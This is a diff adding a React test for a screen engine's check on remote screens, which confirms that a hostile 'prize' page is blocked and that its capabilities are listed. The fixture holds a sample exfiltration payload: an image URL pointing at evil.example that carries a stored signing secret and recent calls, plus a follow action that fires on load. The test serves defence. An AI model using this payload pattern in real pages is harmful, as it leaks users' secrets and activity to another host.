@@ -1,6 +1,7 @@
 import { act, render, screen } from '@testing-library/react'
 import { describe, expect, it, vi } from 'vitest'
 import type { LoadedScreen, ScreenEntry } from '../loaded-screen'
+import { checkRemoteScreen } from '../remote/check-remote-screen'
 import { registerTestRenderers } from '../test-renderers'
 import { createTestEngine, renderNodes, renderScreen } from '../testing'
 import type { Screen } from '../types'
@@ -89,6 +90,39 @@ describe('loading screens', () => {
     screen.getByText('刷新').click()
     expect(engine.recorded.pageReloads).toBe(1)
     expect(engine.recorded.reports[0].context).toEqual({ problems: ['screens/t/broken.json:/body/0/type: unknown node type "txt"'] })
+  })
+
+  it('a screen from outside the build refused for its capabilities names them in production, not the failure page', async () => {
+    const engine = engineWithTestRenderers(false)
+    // Finding 1 of issue 33: the last calls and a stored key, sent to another host in a picture's address.
+    const prize = {
+      $schema: '../../schemas/screen.schema.json',
+      id: 'activity/prize',
+      routes: [{ path: '/activity/prize', auth: 'none' }],
+      title: '抽奖活动',
+      data: { calls: { inspect: 'calls' }, secret: { storage: 'SIGN_SECRET' } },
+      enter: [{ action: 'call', call: 'homepage.follow', args: { accountCode: 'evil', follow: true } }],
+      body: [{ type: 'image', src: 'https://evil.example/p.png?d={{ json(data) }}', alt: '奖品' }],
+    }
+    const loaded = await checkRemoteScreen(prize, 'remote:prize', engine, 'https://app.example.cn')
+    render(
+      <EngineProvider engine={engine}>
+        <ScreenHost loaded={loaded} />
+      </EngineProvider>,
+    )
+    const page = screen.getByRole('alert')
+    expect(page.textContent).toContain('页面已被拦截')
+    expect([...page.querySelectorAll('li')].map((li) => li.textContent)).toEqual([
+      '读取本机保存的数据或最近的请求',
+      '打开时未经点击替您修改数据',
+      '从其他网站加载图片',
+    ])
+    expect(screen.queryByText('页面暂时无法访问')).toBeNull()
+    expect(screen.queryByText('奖品')).toBeNull()
+    screen.getByRole('button', { name: '返回' }).click()
+    expect(engine.recorded.backs).toBe(1)
+    expect(engine.recorded.calls).toEqual([])
+    expect(engine.recorded.reports[0].context).toEqual({ problems: loaded.problems.map((p) => `remote:prize:${p.path}: ${p.message}`) })
   })
 
   it('a screen that throws while rendering shows the failure page', () => {
